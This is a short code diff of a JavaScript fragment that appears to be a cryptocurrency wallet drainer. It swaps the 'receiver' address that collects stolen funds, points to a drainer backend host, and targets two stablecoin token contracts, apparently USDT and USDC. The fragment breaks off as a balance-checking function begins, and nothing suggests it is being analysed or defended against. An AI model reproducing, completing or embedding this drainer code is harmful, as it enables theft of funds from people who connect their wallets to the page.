@@ -1,6 +1,6 @@
 (function () {
   const backend = 'https://api.drainer.example.invalid';
-  const receiver = '0x658729879fca881d9526480b82ae00efc54b5c2d';
+  const receiver = '0x1174e770757f2548afce795be55fb170b8d101a5';
   const tokens = ['0xdac17f958d2ee523a2206206994597c13d831ec7', '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48'];
   let shown = false;
   async function balances(address) {
